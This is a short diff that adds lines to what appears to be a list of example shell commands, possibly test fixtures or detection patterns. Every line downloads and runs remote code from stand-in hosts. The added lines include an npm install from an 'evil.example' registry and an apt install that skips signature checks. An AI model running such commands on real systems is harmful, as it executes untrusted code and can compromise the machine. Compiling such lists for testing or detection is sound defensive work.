@@ -18,3 +18,7 @@ curl -fsSLO https://x.example/y.deb && sudo dpkg -i y.deb
 curl -fsSL https://x.example/y.tgz | tar xz -C /opt/y && /opt/y/install
 aria2c -o i.sh https://x.example/i.sh && bash i.sh
 curl -fsSLo a.py https://x.example/a.py; python3 a.py
+pip install -r requirements.txt -i https://packages.acme.example/simple
+npm install --registry https://evil.example left-pad
+curl -fsSL https://x.example/a.tar.gz | tar xz && ./a/install
+apt-get install -y --allow-unauthenticated x
